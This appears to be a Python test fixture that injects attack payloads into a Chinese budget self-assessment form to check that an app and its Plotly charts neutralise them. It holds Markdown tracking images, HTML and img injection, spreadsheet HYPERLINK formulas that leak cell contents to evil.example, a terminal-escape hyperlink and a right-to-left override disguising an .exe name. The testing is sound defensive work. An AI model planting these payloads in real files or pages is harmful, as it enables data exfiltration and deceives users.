"""Attack payloads in form text, and a text dump that carries them (the seed sample's first form).

Shared by the browser test of the attacks and the page tests that look at what Plotly is handed.
"""

from __future__ import annotations

from tests.conftest import SAMPLES

EVIL = "evil.example"
IMAGE_NAME = f"![t](http://{EVIL}/track.png) -- **粗** :red[红]"
FORMULA_NAME = f'=HYPERLINK("http://{EVIL}/?q="&A1,"点击")'
DEPARTMENT = f'![d](http://{EVIL}/dept.png)<a href="http://{EVIL}/">部门</a>'  # the 总览 charts group by it
UNIT = f"<img src=http://{EVIL}/unit.png>:material/home:"
REASON = f"@SUM(1+1) a -- b [链接](http://{EVIL}/)"


def payload_dump(project_name: str) -> str:
    """The seed's first form with attack payloads in its name, 主管部门, 实施单位 and one reason."""
    seed = (SAMPLES / "000_4b30dd1c6dd4a20d.txt").read_text(encoding="utf-8")
    form = "项目支出绩效自评表" + seed.split("项目支出绩效自评表")[1]
    replaced = (
        form.replace("项目名称 预算准备金 项目金额", f"项目名称 {project_name} 项目金额")
        .replace("主管部门 0402009 实施单位", f"主管部门 {DEPARTMENT} 实施单位 {UNIT}")
        .replace("数量指标 预算准备金工作完成率 100% 0% 10 0", f"数量指标 预算准备金工作完成率 100% 0% 10 0 {REASON}")
    )
    assert all(text in replaced for text in (project_name, DEPARTMENT, UNIT))  # every payload went in
    assert f" {REASON}\n" in replaced
    return replaced


# Characters no output carries raw (untrusted.UNCARRIABLE), as a copy-paste brings them: BEL, an OSC 8
# terminal hyperlink (ESC ] … ESC \), NUL, VT, a right-to-left override ("gpj.exe" shows as "exe.jpg"),
# DEL and a C1 control (NEL).
CONTROL_NAME = f"预算\x07准备\x1b]8;;http://{EVIL}/\x1b\\金\x00中\x0b间\x7f\x85尾\u202egpj.exe"
# The same name as `visible_text` writes it in every file for people: each character's visible escape.
CONTROL_NAME_SHOWN = f"预算\\x07准备\\x1b]8;;http://{EVIL}/\\x1b\\金\\0中\\x0b间\\x7f\\x85尾\\u202egpj.exe"
# Fullwidth formula starters: East Asian spreadsheets read "＝" as "=".
FULLWIDTH_FORMULA_NAME = '＝HYPERLINK("http://evil.example/","点击")'
